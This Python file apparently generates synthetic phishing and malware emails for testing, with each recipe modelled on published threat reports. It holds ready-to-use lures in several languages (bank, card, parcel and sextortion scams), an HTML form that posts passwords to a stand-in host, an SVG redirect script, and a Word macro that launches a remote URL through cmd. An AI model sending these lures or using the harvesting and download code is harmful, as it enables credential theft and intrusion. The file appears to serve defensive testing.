"""More mass mail, 2011 to 2025: for credentials and money, and containers that come and go."""
from recipe import Recipe, auth
from making import alternative, pdf, program, zipped
from kit import Cab, Pe, Rar5, SevenZip, docs, icons, office, programs

LOGIN_HTML = ("<html><head><title>Webmail</title></head><body><h3>例示研究所 Webメール</h3><p>セッションの有効期限が切れました。続けるにはもう一度サインインしてください。</p>"
              "<form method=\"post\" action=\"https://collect.example.invalid/wp-includes/n.php\"><input name=\"u\" value=\"%s\" readonly>"
              "<input type=\"password\" name=\"p\" placeholder=\"パスワード\"><input type=\"submit\" value=\"サインイン\"></form></body></html>")
SVG = (b"<?xml version=\"1.0\" encoding=\"UTF-8\"?><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"600\" height=\"200\"><text x=\"20\" y=\"40\">Documento judicial</text>"
       b"<script type=\"application/ecmascript\"><![CDATA[var u=atob('aHR0cHM6Ly9kb2MuZXhhbXBsZS5pbnZhbGlkL3Y=');window.location.href=u;]]></script></svg>")

RECIPES = [
    Recipe("m-html-login", "mass", "Council of Anti-Phishing Japan and universities' notices, 2020 to 2023: webmail phishing; Kaspersky, May 2022, on HTML attachments",
           "A full mailbox; the page that is attached asks for the password and has the reader's address in it.", "【重要】保留中のメールが6件あります", "no-reply@mail-quota.example",
           name="example.ac.jp メール管理者", to="kobayashi@example.ac.jp", charset="utf-8", date="Tue, 14 Jun 2022 03:20:47 +0000",
           html="<p>kobayashi@example.ac.jp 様</p><p>メールボックスの容量が不足しているため、6件の受信メールが保留されています。<br>添付のファイルを開き、24時間以内に受信を許可してください。</p><p>example.ac.jp サポート</p>",
           client=("vps-5512.cloudhost.example", "203.0.113.55"), message_id="<20220614032047.77AB@mail-quota.example>",
           headers=[auth("pass", domain="mail-quota.example"), ("X-Mailer", "PHPMailer 6.1.4")],
           attach=[("保留メッセージ_kobayashi.html", (LOGIN_HTML % "kobayashi@example.ac.jp").encode(), "text/html")]),

    Recipe("m-card-link", "mass", "Council of Anti-Phishing Japan, emergency notices and monthly reports, 2020 to 2024: names of card firms",
           "A card firm's warning on use by another; the link shows the firm's address and leads to one that looks like it.", "【三井住友カード】カードご利用確認のお願い", "info@vpass-smbc-card.example",
           name="三井住友カード株式会社", to="soumu@example.ac.jp", charset="utf-8", date="Sat, 21 Oct 2023 21:14:05 +0800",
           html="<p>いつも三井住友カードをご利用いただきありがとうございます。</p><p>このたび、ご本人様のご利用かどうかを確認させていただきたいお取引がありましたので、誠に勝手ながら、カードのご利用を一部制限させていただきました。</p>"
                "<p>つきましては、以下へアクセスの上、カードのご利用確認にご協力をお願いいたします。</p><p><a href=\"https://smbc-card.com.login-vpass.example/mem/\">https://www.smbc-card.com/mem/index.jsp</a></p>"
                "<p>ご回答をいただけない場合、カードのご利用制限が継続されることもございますので、予めご了承ください。</p><p>■発行者■<br>三井住友カード株式会社<br>東京都江東区豊洲2丁目2番31号</p>",
           client=("unassigned-203-0-113-190.idc.example", "203.0.113.190"), message_id="<2023102121140512345678@vpass-smbc-card.example>",
           headers=[auth("pass", "none", "none", "vpass-smbc-card.example"), ("X-Mailer", "Foxmail 6, 13, 102, 15 [cn]")]),

    Recipe("m-telekom-rechnung", "mass", "Trend Micro, June 2014, and Deutsche Telekom's warnings of 2014: bills in its name (first Emotet)",
           "A German telecom's bill with an amount; the program has a long name and the picture of a PDF in a zip.", "RechnungOnline Monat November 2014 (Buchungskonto: 8812047715)",
           "rechnungonline@telekom.de", name="Telekom Deutschland GmbH", to="koubai@example.co.jp", charset="iso-8859-1", date="Tue, 18 Nov 2014 10:41:33 +0100",
           body="Guten Tag,\n\nmit dieser E-Mail erhalten Sie Ihre aktuelle Rechnung. Der Gesamtbetrag im Monat November 2014 beträgt: 287,44 Euro.\n"
                "Ihre Rechnung finden Sie im Anhang.\n\nMit freundlichen Grüßen\nRalf Hoßbach\nLeiter Kundenservice\n",
           client=("cpe-203-0-113-62.cable.example", "203.0.113.62"), message_id="<9921.546B13AD@telekom.de>",
           headers=[("Return-Path", "<bauhof@gartenwelt.example>"), auth("softfail", "none", "none", "telekom.de")],
           attach=[("2014_11rechnung_8812047715.zip", zipped(("2014_11rechnung_8812047715_sign_telekom_deutschland_gmbh_pdf.exe",
                    program(icons.document(accent=(200, 30, 30)), 110000, packed=True, stamp=0x546A0000))), "application/zip")]),

    Recipe("m-sextortion", "mass", "IPA, notice of October 2018 on mails that threaten and ask for virtual currency (updated 2020); JPCERT/CC, September 2018",
           "A threat in the name of the reader himself, with a deadline and an address for coins.", "あなたのアカウントはハッキングされています", "soumu@example.ac.jp",
           to="soumu@example.ac.jp", charset="utf-8", date="Wed, 10 Oct 2018 02:37:11 -0300",
           body="こんにちは!\n\n私は数ヶ月前にあなたの端末に侵入しました。お気づきかもしれませんが、私はあなたのアカウントからこのメールを送っています。\n"
                "あなたが大人のサイトを見ている間、カメラであなたを録画しました。あなたの連絡先もすべて持っています。\n\n"
                "動画を消してほしければ、550ドルを私のビットコインのアドレスに送ってください。\n\n1ExampLeXXXXXXXXXXXXXXXXXXXXXXXXX\n\n"
                "このメールを開いてから48時間以内です。支払いを確認したら、動画はすぐに消去します。警察に言っても無駄です。\n",
           client=("pool-203-0-113-176.isp.example", "203.0.113.176"), message_id="<006301d46056$04a1b2c3$@example.ac.jp>",
           headers=[("Return-Path", "<soumu@example.ac.jp>"), auth("fail", domain="example.ac.jp"), ("X-Mailer", "Microsoft Outlook Express 6.00.2800.1158")]),

    Recipe("m-bank-link", "mass", "NPA and Council of Anti-Phishing Japan, 2013 to 2014: notices of banks copied",
           "A bank's notice in text and HTML, copied; only the link in the HTML is another.", "【三菱東京UFJ銀行】本人認証サービス", "info@bk.mufg.jp", name="三菱東京UFJ銀行", hard=True,
           to="keiri@example.co.jp", charset="shift_jis", date="Mon, 10 Mar 2014 15:48:22 +0800",
           body="こんにちは!\n\n最近、利用者の個人情報が一部のネットショップサーバーに不正取得され、利用者の個人情報漏洩事件が起こりました。\n"
                "お客様のアカウントの安全性を保つために、「三菱東京UFJ銀行システム」がアップグレードされましたが、お客様はアカウントが凍結されないように直ちにご登録のうえご確認ください。\n\nhttps://entry11.bk.mufg.jp/ibg/dfw/APLIN/loginib/login\n",
           html="<p>こんにちは!</p><p>お客様のアカウントが凍結されないように、直ちにご登録のうえご確認ください。</p><p>以下のページより登録を続けてください。</p>"
                "<p><a href=\"http://bk.mufg.jp.entry.example/ibg/\">https://entry11.bk.mufg.jp/ibg/dfw/APLIN/loginib/login?_TRANID=AA000_001</a></p><p>──Copyright(C)2014 The Bank of Tokyo-Mitsubishi UFJ,Ltd.──</p>",
           client=("203-0-113-224.adsl.example", "203.0.113.224"), message_id="<20140310154822881370@bk.mufg.jp>", finish=alternative,
           headers=[auth("softfail", domain="bk.mufg.jp"), ("X-Mailer", "Microsoft Outlook Express 6.00.2900.5512"), ("X-Priority", "3")]),

    Recipe("m-parcel-short", "mass", "IPA, notices of 2018 to 2022 on false notices of absence; Council of Anti-Phishing Japan, monthly reports",
           "A line as in a short message: the parcel was taken back; a short link.", "お荷物のお届けについて", "delivery.8841@outlook.com", hard=True, alone=False, charset="utf-8",
           to="eigyo@example.co.jp", date="Fri, 16 Dec 2022 18:22:09 +0900",
           body="お客様宛にお荷物のお届けにあがりましたが不在の為持ち帰りました。下記よりご確認ください。\nhttps://is.example.invalid/7fKq2\n",
           message_id="<PSAPR04MB8841@PSAPR04MB8841.apcprd04.prod.mail.example>", headers=[auth("pass", "pass", "pass", "outlook.com")]),

    Recipe("m-jar", "mass", "Kaspersky, February 2016, and Trend Micro, July 2017: Adwind (jRAT) as .jar in mass mail",
           "A notice of a transfer; the copy is a program for Java.", "SWIFT copy of payment USD 18,450.00", "remittance@exchange-house.example", name="Accounts Dept", to="keiri@example.co.jp",
           charset="us-ascii", date="Thu, 20 Jul 2017 06:29:50 +0100",
           body="Dear Valued Customer,\n\nWe have been instructed by our client to transfer the sum of USD 18,450.00 to your account.\nSee the attached SWIFT copy and confirm your bank details.\n\nAccounts Dept\n",
           client=("srv88.hosting.example", "203.0.113.88"), message_id="<b2c1e0f7aa13@exchange-house.example>",
           headers=[auth("softfail", domain="exchange-house.example"), ("User-Agent", "SquirrelMail/1.4.22")],
           attach=[("SWIFT_COPY_18450USD.jar", zipped(("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\r\nMain-Class: q.w.Main\r\n\r\n"),
                    ("q/w/Main.class", b"\xca\xfe\xba\xbe\0\0\0\x32\0\x10" + docs.noise(1800)), ("q/w/k.dat", docs.noise(60000))), "application/java-archive")]),

    Recipe("m-nota-fiscal-vbs", "mass", "ESET and Cofense, 2018 to 2021: bankers of Brazil (Astaroth, Grandoreiro) with scripts in archives",
           "In Portuguese, an electronic invoice as a .vbs in a rar.", "NF-e 004.871.220 - Nota Fiscal Eletrônica emitida", "financeiro@transportadora.example", name="Setor Financeiro",
           to="koubai@example.co.jp", charset="iso-8859-1", date="Mon, 09 Sep 2019 13:05:58 -0300",
           body="Prezado(a) cliente,\n\nSegue em anexo a Nota Fiscal Eletrônica referente ao serviço prestado.\nO vencimento do boleto é 16/09/2019. O não pagamento implicará em protesto.\n\nAtenciosamente,\nSetor Financeiro\n",
           client=("vps19.nuvem.example", "203.0.113.19"), message_id="<5d7678e6.1c69fb81@transportadora.example>", headers=[auth("none", domain="transportadora.example"), ("X-PHP-Originating-Script", "0:envia.php")],
           attach=[("NFe-004871220.rar", Rar5().add("NFe-004871220_PDF.vbs", programs.FETCH_VBS.encode()).bytes(), "application/x-rar-compressed")]),

    Recipe("m-xll", "mass", "HP Wolf Security, January 2022, and Cisco Talos, December 2022: add-ins of Excel (.xll) in mass mail",
           "A quotation as an add-in of Excel, which is a library of Windows.", "RE: Request for price list / 8800134", "sales7@metal-export.example", name="Irina Dobre",
           to="undisclosed-recipients:;", charset="utf-8", date="Tue, 25 Jan 2022 07:13:40 +0000",
           body="Dear Sirs,\n\nplease find attached our offer as per your inquiry. Open in Excel and enable the add-in to see the prices.\nWaiting for your soonest reply.\n\nIrina Dobre\nSales\n",
           client=("mail9.shared.example", "203.0.113.93"), message_id="<d9e1f04c2b@metal-export.example>", headers=[auth("pass", domain="metal-export.example"), ("User-Agent", "Roundcube Webmail/1.4.12")],
           attach=[("Quotation_8800134.xll", Pe(dll=True, machine=0x8664, stamp=0x61EF0000).version(FileDescription="Excel-DNA Dynamic Link Library", OriginalFilename="ExcelDna.xll").bytes(), "application/vnd.ms-excel")]),

    Recipe("m-svg", "mass", "VirusTotal, September 2025, and Sophos, February 2025: SVG files whose script leads to a page; Colombia's courts",
           "In Spanish, a summons; the picture is an SVG with a script that leads elsewhere.", "Notificación Judicial - Proceso No. 2025-00417", "notificaciones@despacho-legal.example", name="Juzgado 14 Civil",
           to="soumu@example.co.jp", charset="utf-8", date="Thu, 14 Aug 2025 09:55:12 -0500",
           body="Señor(a):\n\nSe le notifica que ha sido vinculado al proceso de la referencia. Consulte el documento adjunto dentro de los tres días hábiles siguientes.\n\nSecretaría del Despacho\n",
           client=("a14-3.bulkmailer.example", "203.0.113.143"), message_id="<0100018f2d@bulkmailer.example>", headers=[auth("pass", "pass", "none", "despacho-legal.example")],
           attach=[("Notificacion_2025-00417.svg", SVG, "image/svg+xml")]),

    Recipe("m-chinese-tax-pdf", "mass", "Knownsec 404 and Kaspersky, 2023 to 2025: Silver Fox (ValleyRAT) in Chinese mail on tax audits and subsidies",
           "In Chinese, a notice of an audit; the PDF holds a single link to an archive.", "关于企业税务稽查抽查名单的通知", "swj_jc2024@163.com", name="税务稽查局", hard=True, alone=False, to="keiri@example.co.jp",
           charset="gb2312", date="Wed, 17 Apr 2024 10:06:31 +0800",
           body="各单位财务负责人:\n\n根据年度稽查工作安排,现将抽查企业名单及自查表下发,请在电脑端打开附件查看,并于三日内完成自查。\n\n税务稽查局\n",
           message_id="<6f0d1a2c.3b7.18ee9c@163.com>", headers=[auth("pass", "pass", "none", "163.com"), ("X-Mailer", "Coremail Webmail Server Version XT5.0.14")],
           attach=[("稽查抽查名单.pdf", pdf("2024年度稽查抽查企业名单\n请点击查看(仅限电脑端)", "https://swcc.example.invalid/list.zip"), "application/pdf")]),

    Recipe("m-template-invoice", "mass", "Fortinet and Menlo Security, 2020 to 2023: Formbook and Lokibot by remote templates behind short links",
           "An invoice as a Word file that fetches its template by a short link with an @ in it.", "Outstanding invoice INV-20931 / statement of account", "account@marine-supply.example", name="Accounts Receivable",
           to="keiri@example.co.jp", charset="utf-8", date="Wed, 22 Mar 2023 02:48:17 +0000",
           body="Dear Sir,\n\nOur records show that the attached invoice is still outstanding. Kindly check and arrange the payment at your earliest.\n\nBest regards\nAccounts Receivable\n",
           client=("vm771.hosting.example", "203.0.113.171"), message_id="<20230322024817.1F0@marine-supply.example>", headers=[auth("fail", "none", "fail", "marine-supply.example")],
           attach=[("INV-20931.docx", office.docx_template("http://office@sh.example.invalid/oZ1x", text="INVOICE"), "application/vnd.openxmlformats-officedocument.wordprocessingml.document")]),

    Recipe("m-russian-js-7z", "mass", "ESET, January 2019, and Yoroi: Shade (Troldesh) in Russian mails on orders, to Russia and Japan among others",
           "In Russian, details of an order in the name of a firm; a script in a 7z.", "Подробности заказа", "info@stroy-magazin.example", name="Денис Кудрявцев", to="eigyo@example.co.jp", charset="koi8-r",
           date="Tue, 22 Jan 2019 08:33:45 +0300",
           body="Добрый день!\n\nВысылаю подробности заказа. Документ во вложении.\n\nДенис Кудрявцев\nменеджер\n", client=("host-203-0-113-71.telecom.example", "203.0.113.71"),
           message_id="<E1gloIR-0007aZ-4s@stroy-magazin.example>", headers=[auth("none", domain="stroy-magazin.example"), ("X-Mailer", "The Bat! (v7.1) Professional")],
           attach=[("info.7z", SevenZip().add("Информация.js", programs.FETCH_JS.encode()).bytes(), "application/x-7z-compressed")]),

    Recipe("m-korean-cab", "mass", "AhnLab ASEC, weekly statistics of phishing mail, 2022 and 2023: programs in .cab, .r00 and .gz",
           "In Korean, a request for a quotation; the drawing in the cabinet is a program.", "[견적요청] 부품 단가 회신 부탁드립니다", "kjh0413@hansung-ind.example", name="김재현", to="eigyo@example.co.jp", charset="euc-kr",
           date="Mon, 13 Mar 2023 09:17:02 +0900",
           body="안녕하세요.\n한성산업 김재현 대리입니다.\n\n첨부된 도면 확인하시고 단가 및 납기 회신 부탁드립니다.\n\n감사합니다.\n", client=("cloud-203-0-113-137.vps.example", "203.0.113.137"),
           message_id="<20230313001702.90C3@hansung-ind.example>", headers=[auth("softfail", "none", "none", "hansung-ind.example"), ("User-Agent", "Roundcube Webmail/1.4.13")],
           attach=[("도면_20230313.cab", Cab().add("HS-20230313_drawing.pdf.exe", program(icons.document(accent=(200, 30, 30)), 90000, packed=True, stamp=0x640E0000)).bytes(), "application/vnd.ms-cab-compressed")]),

    Recipe("m-image-password", "mass", "F-Secure and McAfee, March 2004, on Bagle, which put the password of its zip in a picture; here moved to 2021",
           "A locked zip whose password stands in a picture only.", "ご請求金額のお知らせ", "billing@koukoku-service.example", name="請求センター", hard=True, alone=False, to="keiri@example.co.jp", charset="utf-8",
           date="Thu, 11 Feb 2021 16:02:54 +0900",
           body="お世話になっております。\n\n1月分のご請求明細をお送りします。\nパスワードは添付の画像をご確認ください。\n\n請求センター\n", client=("ik1-203-0-113-29.vs.example", "203.0.113.29"),
           message_id="<20210211070254.3C12@koukoku-service.example>", headers=[auth("pass", domain="koukoku-service.example")],
           attach=[("請求明細_202101.zip", zipped(("請求明細_202101.docm", office.docm("Sub AutoOpen()\nShell \"cmd /c start http://b.example.invalid/\", 0\nEnd Sub\n", text="請求明細")), password="w7Qe41-pic"), "application/zip"),
                   ("pass.gif", docs.GIF, "image/gif")]),
]
